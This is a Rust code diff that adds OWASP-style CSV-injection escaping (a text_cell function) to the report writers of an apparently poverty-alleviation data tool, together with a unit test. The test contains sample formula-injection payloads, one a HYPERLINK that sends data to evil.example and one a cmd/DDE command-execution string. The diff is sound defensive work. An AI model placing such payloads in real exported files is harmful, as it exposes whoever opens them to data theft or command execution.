@@ -11,6 +11,7 @@ use fupin_io::villages::{VillageRecord, Villages};
 use fupin_io::Register;
 use rayon::prelude::*;
 use serde::Serialize;
+use std::borrow::Cow;
 use std::fs::{self, File};
 use std::io::{BufWriter, Write};
 use std::path::{Path, PathBuf};
@@ -27,6 +28,19 @@ pub struct Report<'a> {
 }
 
 const BOM: &[u8] = b"\xEF\xBB\xBF";
+
+/// A text cell of a CSV that fupin writes, safe to open in a spreadsheet.
+///
+/// Policy: OWASP CSV injection — a text cell starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return gets a leading `'`, so Excel and LibreOffice show it as text instead of
+/// running it as a formula. Numeric columns (counts, amounts, rates, line numbers) are
+/// formatted by fupin from numbers and written as they are, so `-12.50` stays a number.
+pub fn text_cell(s: &str) -> Cow<'_, str> {
+    match s.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => Cow::Owned(format!("'{s}")),
+        _ => Cow::Borrowed(s),
+    }
+}
 pub const OUTPUT_FILES: [&str; 5] = [
     "households.csv",
     "households.jsonl",
@@ -138,12 +152,12 @@ fn write_problems(w: &mut BufWriter<File>, problems: &[Problem]) -> Result<()> {
     csv.write_record(["文件", "行号", "列", "代码", "说明", "值"])?;
     for p in problems {
         csv.write_record([
-            &*p.file,
+            &*text_cell(&p.file),
             &p.line.to_string(),
-            p.column,
+            &*text_cell(p.column),
             p.code.as_str(),
-            &p.message,
-            &p.value,
+            &*text_cell(&p.message),
+            &*text_cell(&p.value),
         ])?;
     }
     csv.flush()?;
@@ -320,16 +334,16 @@ fn format_households(
         let per_capita = a.per_capita.map(|p| p.plain());
         let failed: Vec<&'static str> = a.failed.iter().map(|c| c.code()).collect();
         csv.write_record([
-            &*h.id,
-            &*area.township,
-            &*area.village,
+            &*text_cell(&h.id),
+            &*text_cell(&area.township),
+            &*text_cell(&area.village),
             status.unwrap_or(""),
             members.format(h.members.len()),
             per_capita.as_deref().unwrap_or(""),
             line,
             a.verdict.chinese(),
             &failed.join("、"),
-            &a.explanation,
+            &*text_cell(&a.explanation),
         ])?;
         serde_json::to_writer(
             &mut *jsonl,
@@ -442,8 +456,8 @@ fn write_villages(w: &mut BufWriter<File>, r: &Report<'_>) -> Result<()> {
             .record
             .map(|rec| village_exit_ready(after, threshold, &rec.conditions));
         let mut row = vec![
-            v.township.to_string(),
-            v.village.to_string(),
+            text_cell(v.township).into_owned(),
+            text_cell(v.village).into_owned(),
             t.households.to_string(),
             t.members.to_string(),
             t.poor_now.to_string(),
@@ -456,7 +470,7 @@ fn write_villages(w: &mut BufWriter<File>, r: &Report<'_>) -> Result<()> {
                 .map(|b| if b { "是" } else { "否" })
                 .unwrap_or("")
                 .to_string(),
-            unmet,
+            text_cell(&unmet).into_owned(),
             ready
                 .map(|b| if b { "是" } else { "否" })
                 .unwrap_or("")
@@ -607,4 +621,32 @@ pub fn summary(r: &Report<'_>, dir: &Path) -> String {
         OUTPUT_FILES.join("、")
     );
     s
+}
+
+#[cfg(test)]
+mod tests {
+    use super::text_cell;
+
+    #[test]
+    fn formula_like_text_gets_a_leading_quote() {
+        for (cell, safe) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")",
+                "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")",
+            ),
+            (
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+                "'@SUM(1+1)*cmd|' /C calc'!A0",
+            ),
+            ("+1", "'+1"),
+            ("-1+2", "'-1+2"),
+            ("\tTAB", "'\tTAB"),
+            ("\rCR", "'\rCR"),
+        ] {
+            assert_eq!(text_cell(cell), safe);
+        }
+        for plain in ["示例一乡", "1409300101001", "", "a=b", "数据有误，未评估"] {
+            assert_eq!(text_cell(plain), plain);
+        }
+    }
 }
